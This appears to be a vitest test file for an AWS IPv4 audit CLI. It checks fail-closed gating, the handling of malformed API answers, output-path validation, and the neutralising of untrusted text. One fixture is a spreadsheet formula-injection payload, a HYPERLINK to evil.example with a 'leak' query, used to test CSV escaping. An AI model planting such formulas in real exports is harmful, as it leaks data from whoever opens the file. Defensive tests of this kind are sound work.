// The gate never goes green without having looked, through the CLI against the AWS stand-in:
// a scan that read nothing fails whatever the thresholds; a partial scan fails a gate unless the
// user accepts partial coverage; the output path is proven before the first AWS call; what an
// endpoint or a resource owner writes is neutralised and redacted in every file.
import { readdir, writeFile } from 'node:fs/promises';
import path from 'node:path';
import type { NetworkInterface } from '@aws-sdk/client-ec2';
import { describe, expect, it } from 'vitest';
import { READ_ACTIONS } from '../../src/aws/sessionPolicy.js';
import { SAMPLE_MANAGEMENT, SAMPLE_MEMBER, sampleOrg } from '../../test-support/aws/sampleOrg.js';
import type { ReplaceRule } from '../../test-support/aws/faultInjector.js';
import { startAwsStandIn } from '../../test-support/aws/startAwsStandIn.js';
import { runCliWith } from './cliRunner.js';
import { standInSuite } from './standInSuite.js';

const suite = standInSuite(sampleOrg, 'fail-closed');

/** Every EC2 and Global Accelerator call the scan makes, refused in `account`. */
const denyEverything = (account: string) =>
  READ_ACTIONS.map((action) => ({ account, action: action.split(':')[1] ?? '' }));

const json = (run: { files: Map<string, string> }) =>
  JSON.parse(run.files.get('report.json') ?? '{}') as {
    coverage: { planned: number; complete: number; reached: number };
    gate: { passed: boolean; violations: { input: string; message: string }[] };
  };

describe('coverage is part of the verdict', () => {
  it('a scan that read nothing exits 5, with no threshold set, and says so', async () => {
    suite.aws.setFaults({
      assumeRoleDenied: [SAMPLE_MEMBER],
      deny: denyEverything(SAMPLE_MANAGEMENT),
    });
    const run = await runCliWith(suite.aws.env, ['run-multi-account']);
    expect(run.code).toBe(5);
    expect(run.stdout).toContain(
      'Nothing was scanned: not one of the 2 planned account-regions could be read ' +
        '(111111111111 all regions (ec2:DescribeRegions: UnauthorizedOperation), ' +
        '222222222222 all regions (sts:AssumeRole: AccessDenied)). ' +
        'Check the credentials, the member role and its permissions',
    );
    const report = json(run);
    expect(report.coverage).toMatchObject({ planned: 2, complete: 0, reached: 0 });
    expect(report.gate.passed).toBe(false);
    expect(report.gate.violations.map((v) => v.input)).toEqual(['coverage']);
  });

  it('a partial scan fails a threshold gate by default, naming what it missed and the way out', async () => {
    suite.aws.setFaults({ assumeRoleDenied: [SAMPLE_MEMBER] });
    const run = await runCliWith(suite.aws.env, [
      'run-multi-account',
      '--max-high-suspicion',
      '10',
    ]);
    expect(run.code).toBe(4);
    expect(run.stdout).toContain(
      'The scan is incomplete: 1 of 4 account-regions were not read completely: ' +
        '222222222222 all regions (sts:AssumeRole: AccessDenied). A gate does not pass on what ' +
        'it could not check; set --fail-on-scan-errors to false to accept partial coverage',
    );
    expect(run.stdout).toContain(
      'Partial scan: 3 of 4 account-regions read completely, in 1 of 2 accounts; 1 call failed.\n',
    );
  });

  it('fail-on-scan-errors false lets a partial scan pass the gate, and exit 0', async () => {
    suite.aws.setFaults({ assumeRoleDenied: [SAMPLE_MEMBER] });
    const run = await runCliWith(suite.aws.env, [
      'run-multi-account',
      '--max-high-suspicion',
      '10',
      '--fail-on-scan-errors',
      'false',
    ]);
    expect(run.code).toBe(0);
    expect(json(run).gate.passed).toBe(true);
    expect(json(run).coverage).toMatchObject({ planned: 4, complete: 3, reached: 3 });
  });
});

describe('an answer that is not the API\'s is an error, never "nothing there"', () => {
  const where = { account: SAMPLE_MANAGEMENT, region: 'us-east-1' };
  /** The CLI run with these answers replaced. */
  const runReplaced = (replace: ReplaceRule[], args: string[]) => {
    suite.aws.setFaults({ replace });
    return runCliWith(suite.aws.env, args);
  };
  /** scan_errors.csv holding just these rows. */
  const errorRows = (...rows: string[]) =>
    `AccountId,Region,Api,ErrorCode,Message\n${rows.map((row) => `${row}\n`).join('')}`;

  it.each([
    ['a proxy page', '<html><body>Proxy OK</body></html>', 'text/html'],
    ['an empty body', '', 'text/xml'],
    [
      'an error document with status 200',
      '<Response><Errors><Error><Code>InternalError</Code><Message>x</Message></Error></Errors></Response>',
      'text/xml',
    ],
  ])(
    '%s in place of DescribeNetworkInterfaces: a scan error, exit 3',
    async (_what, body, type) => {
      const run = await runReplaced(
        [{ ...where, action: 'DescribeNetworkInterfaces', body, contentType: type }],
        ['run-single-account'],
      );
      expect(run.code).toBe(3);
      expect(run.files.get('scan_errors.csv')).toBe(
        errorRows(
          '111111111111,us-east-1,ec2:DescribeNetworkInterfaces,UnexpectedAnswer,the answer holds no networkInterfaceSet element: not an EC2 answer',
        ),
      );
      expect(json(run).coverage.complete).toBe(json(run).coverage.planned - 1);
    },
  );

  it('names the HTTP status of an error answer that is not an AWS error', async () => {
    const page = '<html><body>502 Bad Gateway</body></html>';
    const run = await runReplaced(
      [
        {
          ...where,
          action: 'DescribeVpnConnections',
          status: 502,
          contentType: 'text/html',
          body: page,
        },
      ],
      ['run-single-account'],
    );
    expect(run.code).toBe(3);
    expect(run.files.get('scan_errors.csv')).toBe(
      errorRows(
        '111111111111,us-east-1,ec2:DescribeVpnConnections,HTTP 502,the endpoint answered HTTP 502 with a body that is not an AWS error',
      ),
    );
  });

  it('a threshold gate fails when DescribeAddresses answers 200 with no addresses list', async () => {
    const run = await runReplaced(
      [{ ...where, action: 'DescribeAddresses', body: '<Response></Response>' }],
      ['run-single-account', '--max-unassociated-eips', '100'],
    );
    expect(run.code).toBe(4);
    expect(run.files.get('scan_errors.csv')).toBe(
      errorRows(
        '111111111111,us-east-1,ec2:DescribeAddresses,UnexpectedAnswer,the answer holds no addressesSet element: not an EC2 answer',
      ),
    );
  });

  it('a page token that comes back again ends that call instead of looping forever', async () => {
    const looping =
      '<DescribeSubnetsResponse xmlns="http://ec2.amazonaws.com/doc/2016-11-15/">' +
      '<requestId>r</requestId><subnetSet/><nextToken>loop</nextToken></DescribeSubnetsResponse>';
    const run = await runReplaced(
      [{ ...where, action: 'DescribeSubnets', body: looping }],
      ['run-single-account'],
    );
    expect(run.code).toBe(3);
    expect(run.files.get('scan_errors.csv')).toBe(
      errorRows(
        '111111111111,us-east-1,ec2:DescribeSubnets,UnexpectedAnswer,the same NextToken came back twice: the pages loop',
      ),
    );
    const rows = suite.aws.counters.snapshot(where);
    expect(rows.find((r) => r.action === 'DescribeSubnets')?.attempts).toBe(2);
  });

  it('a Global Accelerator answer without its request id is an error, each call under its name', async () => {
    const run = await runReplaced(
      [
        { action: 'ListCustomRoutingAccelerators', body: '{}', contentType: 'application/json' },
        {
          action: 'ListAccelerators',
          status: 502,
          contentType: 'text/html',
          body: '<html>Bad Gateway</html>',
        },
      ],
      ['run-single-account'],
    );
    expect(run.code).toBe(3);
    expect(run.files.get('scan_errors.csv')).toBe(
      errorRows(
        '111111111111,global,globalaccelerator:ListAccelerators,HTTP 502,the endpoint answered HTTP 502 with a body that is not JSON',
        '111111111111,global,globalaccelerator:ListCustomRoutingAccelerators,UnexpectedAnswer,the answer has no x-amzn-RequestId header: not an AWS answer',
      ),
    );
  });

  it('an Organizations answer without its request id stops the run: no account is skipped unseen', async () => {
    const run = await runReplaced(
      [{ action: 'ListAccounts', body: '{}', contentType: 'application/x-amz-json-1.1' }],
      ['run-multi-account'],
    );
    expect(run.code).toBe(1);
    expect(run.stderr).toContain(
      'UnexpectedAnswer: the answer has no x-amzn-RequestId header: not an AWS answer',
    );
  });

  it('an account whose DescribeRegions lists no region is not reported as read', async () => {
    const noRegion =
      '<DescribeRegionsResponse><requestId>x</requestId><regionInfo/></DescribeRegionsResponse>';
    const run = await runReplaced(
      [{ account: SAMPLE_MEMBER, action: 'DescribeRegions', body: noRegion }],
      ['run-multi-account', '--max-high-suspicion', '100'],
    );
    expect(run.code).toBe(4);
    expect(run.files.get('scan_errors.csv')).toBe(
      errorRows(
        '222222222222,us-east-1,ec2:DescribeRegions,UnexpectedAnswer,no enabled region in the answer',
      ),
    );
  });
});

describe('the output path is proven before any AWS call', () => {
  it('refuses a path below a file, naming --output-path', async () => {
    const file = path.join(suite.scratch, 'a-file');
    await writeFile(file, 'x');
    const run = await runCliWith(
      suite.aws.env,
      ['run-single-account', '--output-path', path.join(file, 'reports')],
      { outputPath: false },
    );
    expect(run.code).toBe(2);
    expect(run.stderr).toBe(
      `aws-ipv4-audit: --output-path: '${path.join(file, 'reports')}' is below a file ('${file}')\n`,
    );
    expect(suite.aws.counters.total()).toBe(0);
  });

  it('refuses a path that cannot be created, without hanging (/proc)', async () => {
    const run = await runCliWith(
      suite.aws.env,
      ['run-single-account', '--output-path', '/proc/x/y'],
      {
        outputPath: false,
      },
    );
    expect(run.code).toBe(2);
    expect(run.stderr).toBe(
      "aws-ipv4-audit: --output-path: cannot create '/proc/x' for '/proc/x/y': ENOENT\n",
    );
    expect(suite.aws.counters.total()).toBe(0);
  });

  it('creates a missing path and leaves nothing but the reports in it', async () => {
    const dir = path.join(suite.scratch, 'new', 'nested');
    const run = await runCliWith(
      suite.aws.env,
      ['run-single-account', '--regions', 'us-east-1', '--output-path', dir],
      { outputPath: false },
    );
    expect(run.code).toBe(0);
    const names = await readdir(dir);
    expect(names).toHaveLength(12);
    expect(names.every((name) => /^\d+_[a-z_]+\.(csv|json|html|sh)$/.test(name))).toBe(true);
  });
});

describe('what others write stays inert in the files', () => {
  it('keeps a formula in a description out of InterfaceType, and neutralised in Description', async () => {
    const fixture = sampleOrg();
    const region = fixture.accounts[0]?.regions['us-east-1'];
    const template = region?.networkInterfaces?.[0] as NetworkInterface;
    region?.networkInterfaces?.push({
      ...structuredClone(template),
      NetworkInterfaceId: 'eni-0f0000000000000ff',
      Description: '=HYPERLINK("https://evil.example/?leak","Open") now',
      Attachment: {
        ...template.Attachment,
        InstanceId: undefined,
        InstanceOwnerId: '999999999999',
      },
      Association: { PublicIp: '54.210.99.99', IpOwnerId: 'amazon' },
      PrivateIpAddresses: [
        {
          Primary: true,
          PrivateIpAddress: '10.0.1.99',
          Association: { PublicIp: '54.210.99.99', IpOwnerId: 'amazon' },
        },
      ],
    });
    const hostile = await startAwsStandIn({ fixture });
    try {
      const run = await runCliWith(hostile.env, ['run-single-account', '--regions', 'us-east-1']);
      const row = run.files
        .get('eni_public_ips.csv')
        ?.split('\n')
        .find((line) => line.includes('eni-0f0000000000000ff'));
      // InterfaceType is one of the tool's own names, never description text.
      expect(row?.split(',')[6]).toBe('Unknown Resource Type');
      expect(row).toContain(`,"'=HYPERLINK(""https://evil.example/?leak"",""Open"") now",`);
      expect(row?.match(/,"?=/g)).toBeNull();
    } finally {
      await hostile.close();
    }
  });

  it('replaces a credential quoted by an error message in every file', async () => {
    const key = suite.aws.env.AWS_ACCESS_KEY_ID ?? '';
    suite.aws.setFaults({
      failNext: [
        {
          action: 'DescribeRouteTables',
          code: 'AuthFailure',
          message: `The key ${key} is not allowed here`,
          times: 1,
        },
      ],
    });
    const run = await runCliWith(suite.aws.env, ['run-single-account', '--regions', 'us-east-1']);
    expect(run.code).toBe(3);
    expect(run.files.get('scan_errors.csv')).toBe(
      'AccountId,Region,Api,ErrorCode,Message\n' +
        '111111111111,us-east-1,ec2:DescribeRouteTables,AuthFailure,The key *** is not allowed here\n',
    );
    for (const [name, text] of run.files) expect(text, name).not.toContain(key);
    expect(run.stderr).not.toContain(key);
  });
});
